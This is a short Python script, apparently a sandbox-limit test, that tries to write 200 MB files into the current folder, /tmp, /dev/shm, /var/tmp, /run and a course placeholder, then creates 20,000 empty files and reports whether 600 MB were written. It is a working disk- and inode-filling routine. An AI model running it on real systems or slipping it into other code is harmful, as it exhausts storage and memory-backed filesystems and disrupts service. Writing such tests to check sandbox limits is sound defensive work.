"""Bombs: 600 MB of files and twenty thousand empty ones, wherever one may write.

aim: none
harm: files
alone: writes 600 MB
"""

import os

written = 0
for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "/run", "@COURSE@"):
    try:
        with open(os.path.join(folder, "attack_marker.bin"), "wb") as file:
            for _ in range(200):
                file.write(b"x" * 2**20)
                file.flush()
                written += 2**20
    except OSError as error:
        print(folder, type(error).__name__)
try:
    os.makedirs("many", exist_ok=True)
    for number in range(20000):
        open(f"many/{number}", "w").close()
except OSError as error:
    print(type(error).__name__)
if written >= 600 * 2**20:
    print("!" * 5, "600 MB were written")
